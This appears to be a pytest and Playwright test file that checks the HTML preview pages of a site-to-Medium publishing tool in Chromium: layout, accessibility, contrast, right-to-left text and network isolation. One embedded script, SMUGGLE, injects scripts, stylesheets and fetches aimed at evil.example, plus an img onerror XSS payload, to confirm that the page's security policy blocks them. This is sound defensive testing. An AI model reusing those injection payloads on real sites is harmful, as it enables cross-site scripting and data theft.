"""The pages of a preview as people see them: a real build, opened in a real Chromium."""

import json
from contextlib import contextmanager
from itertools import pairwise
from pathlib import Path

import pytest
from screens import CONF, CONTRAST, DESKTOP, LONG_LINE, PHONE, RICH, tab


@pytest.fixture(scope="module")
def folder(shared_site):
    """The preview of a small site."""
    site = shared_site
    site.configure(CONF)
    (site.folder / "content/images").mkdir()
    picture = Path(__file__).parents[2] / "sample_site/content/images/tide-curve.png"
    (site.folder / "content/images/lamp.png").write_bytes(picture.read_bytes())
    site.article("rich", text=RICH, title="A mast and its logger", tags="wind, tides")
    site.article("hostile", text="Some *words*.")
    site.article("arabic", text="مرحبا بالعالم.\n\n> اقتباس", title="مقال", lang="ar")
    site.article("elsewhere", text="Words. ![A far lamp](https://far.example/lamp.png)")
    site.article("held", text='<IMG SRC="{static}/x.png">', title="Not yet")
    assert site.build().returncode == 0
    result = site.cli("preview")
    assert result.returncode == 0, result.stderr
    return Path(result.stdout.strip()).parent


@pytest.fixture(scope="module")
def one_tab(window):
    """The tab that all these pages are opened in, one after the other."""
    with tab(window) as page:
        page.on("request", lambda request: page.requests.append(request.url))
        yield page


@pytest.fixture
def open_page(one_tab, folder):
    """Open a page of the preview; what it asks for is in its `requests`."""

    @contextmanager
    def opened(name, viewport=DESKTOP, scheme="light"):
        one_tab.requests = []
        one_tab.set_viewport_size(viewport)
        one_tab.emulate_media(color_scheme=scheme)
        one_tab.goto((folder / name).as_uri())
        yield one_tab

    return opened


def style(page, selector, name):
    script = "(element, name) => getComputedStyle(element)[name]"
    return page.locator(selector).first.evaluate(script, name)


def size(page, selector):
    return float(style(page, selector, "fontSize").removesuffix("px"))


def box(page, selector):
    return page.locator(selector).first.bounding_box()


@pytest.mark.parametrize("viewport", [DESKTOP, PHONE], ids=["desktop", "phone"])
def test_title_subtitle_and_headings_go_down_in_size(open_page, viewport):
    """The title is the largest, then the subtitle, the larger heading and the smaller one."""
    with open_page("rich.html", viewport) as page:
        shown = ["h1", ".opening h2", ".body h2", ".body h3", ".about p, .about dt"]
        sizes = [size(page, selector) for selector in shown]
        assert sizes == sorted(set(sizes), reverse=True)
        assert page.locator(".opening").inner_text().splitlines() == [
            "A mast and its logger",
            "A small subtitle",
        ]


def test_headings_have_no_gap_between_levels(open_page):
    """A screen reader hears one h1 and never a level that skips one."""
    with open_page("rich.html") as page:
        script = "all => all.map(heading => Number(heading.tagName[1]))"
        levels = page.locator("h1, h2, h3, h4, h5, h6").evaluate_all(script)
        assert levels[0] == 1
        assert levels.count(1) == 1
        assert all(after <= before + 1 for before, after in pairwise(levels))
        assert page.locator(".body h2").all_inner_texts() == ["The mast", "The logger"]
        assert page.locator(".body h3").all_inner_texts() == ["Its stays"]


def test_the_column_is_as_wide_as_mediums(open_page):
    """On a desktop the text is about 680 px wide, in the middle."""
    with open_page("rich.html") as page:
        text = box(page, ".body p")
        assert 660 <= text["width"] <= 700
        assert abs(text["x"] * 2 + text["width"] - DESKTOP["width"]) <= 1


@pytest.mark.parametrize("name", ["rich.html", "index.html", "hostile.html", "elsewhere.html"])
def test_no_page_scrolls_sideways(open_page, name):
    """However narrow it is, only code blocks scroll, each by itself."""
    with open_page(name, PHONE) as page:
        for fold in page.locator("summary").all():
            fold.click()
        for width in (360, 320, 768):
            page.set_viewport_size({"width": width, "height": 740})
            assert page.evaluate("document.documentElement.scrollWidth") == width
            page.evaluate("scrollTo(100, 0)")
            assert page.evaluate("scrollX") == 0


def test_long_code_scrolls_by_itself_and_by_keyboard(open_page):
    """A block with a long line, and a wide table, can be scrolled with the arrow keys."""
    with open_page("rich.html", PHONE) as page:
        blocks = page.locator(".story pre")
        assert blocks.count() == 2
        for block in blocks.all():
            wider = block.evaluate("block => block.scrollWidth - block.clientWidth")
            assert wider > 100
            block.focus()
            page.keyboard.press("ArrowRight")
            assert block.evaluate(f"block => {SOON}(() => block.scrollLeft > 0)")


#: Whether something becomes true within some frames: scrolling by key is animated.
SOON = """(async holds => {
    for (let frame = 0; frame < 300 && !holds(); frame += 1)
        await new Promise(requestAnimationFrame);
    return holds();
})"""


def test_code_is_monospaced_with_every_newline_and_blank(open_page):
    """A code block keeps its text and says its language; each letter is equally wide."""
    with open_page("rich.html") as page:
        block = page.locator(".story pre").first
        assert block.text_content().rstrip("\n") == (
            f"def read(port):\n    return port.readline()\n\n{LONG_LINE}"
        )
        assert style(page, ".story pre", "whiteSpace").startswith("pre")
        assert len(set(page.evaluate(WIDTHS, [".story pre", ".story p code"]))) == 2
        label = "block => getComputedStyle(block, '::before').content"
        assert block.evaluate(label) == '"python"'
        assert block.get_attribute("aria-label") == "Code, python"


#: How wide two texts of equal length are in each of some elements.
WIDTHS = """selectors => selectors.flatMap(selector => ["iiii", "MMMM"].map(text => {
    const span = document.createElement("span");
    span.textContent = text;
    document.querySelector(selector).append(span);
    const width = span.getBoundingClientRect().width;
    span.remove();
    return Math.round(width * 10);
}))"""


def test_a_picture_of_the_site_is_there_with_its_caption_under_it(open_page):
    """It is shown from its copy, inside the column, and its caption stands below it."""
    with open_page("rich.html") as page:
        picture = page.locator(".story figure img")
        assert picture.get_attribute("src").startswith("pictures/")
        assert picture.get_attribute("alt") == "A lamp on a pole"
        assert picture.evaluate("image => image.complete && image.naturalWidth") > 0
        image, caption = box(page, "figure img"), box(page, "figure figcaption")
        assert page.locator("figcaption").inner_text() == "The lamp at dusk"
        assert caption["y"] >= image["y"] + image["height"]
        assert image["width"] <= box(page, ".body")["width"]


def test_quote_and_embed_look_like_it(open_page):
    """A quote has its bar and slant; an address alone is a card with that address."""
    with open_page("rich.html") as page:
        assert style(page, "blockquote", "fontStyle") == "italic"
        assert style(page, "blockquote", "borderLeftWidth") == "3px"
        card = page.locator(".embed a")
        assert card.inner_text() == "https://www.youtube.com/watch?v=abcdefghijk"
        assert card.get_attribute("href") == card.inner_text()
        assert style(page, ".embed", "borderTopWidth") == "1px"


def test_notes_and_fields_are_visible(open_page):
    """What was lost is said without a click, and so are the fields that go with the story."""
    with open_page("rich.html") as page:
        [note] = page.locator(".notes li").all()
        assert note.is_visible()
        assert "video replaced by a link" in note.inner_text()
        page.get_by_role("link", name="1 note").click()
        assert page.url.endswith("#preview-notes")
        fields = dict(
            zip(
                page.locator("dt").all_inner_texts(),
                page.locator("dd").all_inner_texts(),
                strict=True,
            )
        )
        assert fields["Canonical link"] == "https://small.example/rich.html"
        assert fields["Tags"] == "wind, tides"
        assert fields["Status"] == "draft"
        assert fields["Licence"] == "all-rights-reserved"
        assert fields["Tell followers"] == "no"
        assert fields["Date on Medium"] == "when it is posted"
        assert fields["Pictures"] == "1 from the built site"
        assert fields["Key"] == "rich"


@pytest.mark.parametrize("key", ["rich", "hostile", "arabic"])
def test_the_payload_is_folded_and_is_what_is_sent(open_page, shared_site, key):
    """The JSON is hidden until its fold is opened, and equals the request of a dry run."""
    dry = json.loads(shared_site.cli("post", "--dry-run", "--json").stdout)
    requests = {outcome["key"]: outcome["request"] for outcome in dry["outcomes"]}
    name = {"arabic": "arabic@ar"}.get(key, key)
    with open_page(f"{name}.html") as page:
        payload = page.locator(".payload")
        assert not payload.is_visible()
        page.locator("summary").press("Enter")
        assert payload.is_visible()
        assert json.loads(payload.text_content()) == requests[name]


@pytest.mark.parametrize("name", ["rich.html", "hostile.html", "index.html", "arabic@ar.html"])
def test_no_request_leaves(open_page, way_out, name):
    """Page and pictures come from the folder; nothing a hook put into the text runs or loads."""
    with open_page(name) as page:
        page.locator("body").click(position={"x": 5, "y": 5})
        page.wait_for_load_state("networkidle")
        assert page.requests
        assert [url for url in page.requests if not url.startswith("file:")] == []
        assert "taken" not in page.title()
        assert page.locator("script, iframe, object, embed, form, svg, video, link").count() == 0
    assert "evil.example" not in " ".join(way_out[0])


STOPPED = [
    *("base-uri", "connect-src", "font-src", "frame-src", "script-src-attr", "script-src-elem"),
    "style-src-elem",
]


def test_nothing_may_run_or_load_even_if_it_came_through(open_page, way_out):
    """The policy stops what the reduction would have missed: scripts, styles, frames, fetches."""
    with open_page("hostile.html") as page:
        assert set(page.evaluate(SMUGGLE, STOPPED)) >= set(STOPPED)
        assert "taken" not in page.title()
    assert "evil.example" not in " ".join(way_out[0])


#: Puts into the page what must never have come through, and tells what the policy stopped.
SMUGGLE = f"""async wanted => {{
    const stopped = [];
    addEventListener("securitypolicyviolation", event => stopped.push(event.effectiveDirective));
    const put = (name, attributes) =>
        document.body.append(Object.assign(document.createElement(name), attributes));
    put("script", {{ src: "https://evil.example/a.js" }});
    put("link", {{ rel: "stylesheet", href: "https://evil.example/b.css" }});
    put("iframe", {{ src: "data:,c" }});  // to a host, Chromium connects before it asks the policy
    put("base", {{ href: "https://evil.example/" }});
    put("p", {{ innerHTML: "<img src='data:,' onerror='document.title = `taken`'>" }});
    await fetch("https://evil.example/d").catch(() => {{}});
    await new FontFace("x", "url(https://evil.example/e)").load().catch(() => {{}});
    await {SOON}(() => wanted.every(directive => stopped.includes(directive)));
    return stopped;
}}"""


def test_a_picture_from_elsewhere_is_the_only_thing_that_needs_a_network(open_page, way_out):
    """Offline, its alt text is there to read, and so is the rest of the page."""
    with open_page("elsewhere.html") as page:
        page.wait_for_load_state("networkidle")
        away = [url for url in page.requests if not url.startswith("file:")]
        assert away == ["https://far.example/lamp.png"]
        assert any("far.example:443" in line for line in way_out[0])
        picture = page.locator(".story img")
        assert picture.evaluate("image => image.naturalWidth") == 0
        assert picture.get_attribute("alt") == "A far lamp"
        assert box(page, ".story img")["width"] > 50
        assert "Words." in page.locator(".story").inner_text()


def test_the_index_leads_to_each_page_and_back(open_page):
    """Every link of the index works, and what would be held is named with its reason."""
    with open_page("index.html") as page:
        titles = page.locator(".entries h2").all_inner_texts()
        assert sorted(titles) == [
            "A mast and its logger",
            "Elsewhere",
            "Hostile",
            "Not yet",
            "مقال",
        ]
        for number in range(page.locator(".entries h2 a").count()):
            link = page.locator(".entries h2 a").nth(number)
            title = link.inner_text()
            link.click()
            assert page.locator("h1").inner_text() == title
            page.get_by_role("link", name="All previews").click()
        held = page.locator(".entries li", has_text="Not yet")
        assert held.locator("a").count() == 0
        assert "{static}/x.png" in held.locator(".reason").inner_text()


@pytest.mark.parametrize("name", ["rich.html", "index.html"])
@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_every_text_is_readable_in_light_and_dark(open_page, name, scheme):
    """Each text has the contrast that WCAG 2.2 asks of normal text (1.4.3: 4.5 to 1)."""
    with open_page(name, scheme=scheme) as page:
        if name == "rich.html":
            page.locator("summary").click()
        measured = page.evaluate(CONTRAST)
        assert len(measured) > 5
        assert [text for ratio, text in measured if ratio < 4.5] == []
        ground = style(page, "body", "backgroundColor")
        assert ground == {"light": "rgb(255, 255, 255)", "dark": "rgb(18, 18, 18)"}[scheme]


def test_an_article_from_right_to_left_is_shown_so(open_page):
    """It has its language and direction; the words around it stay English, left to right."""
    with open_page("arabic@ar.html") as page:
        assert page.locator(".story").get_attribute("lang") == "ar"
        assert style(page, ".story", "direction") == "rtl"
        assert style(page, ".story blockquote", "borderRightWidth") == "3px"
        assert style(page, ".about", "direction") == "ltr"
        assert page.locator("html").get_attribute("lang") == "en"


def test_the_browser_reaches_nothing_but_this_machine(browser, way_out):
    """Names, addresses and sockets elsewhere end at a proxy of the tests, which lets none out."""
    context = browser.new_context()
    page = context.new_page()
    before = len(way_out[0])
    for address in ("http://example.com/", "https://192.0.2.1/", "http://[2001:db8::1]/"):
        script = "address => fetch(address).then(answer => answer.status, () => 'failed')"
        assert page.evaluate(script, address) in {403, "failed"}
    asked = " ".join(way_out[0][before:])
    context.close()
    assert "example.com" in asked
    assert "192.0.2.1:443" in asked
    assert "2001:db8::1" in asked
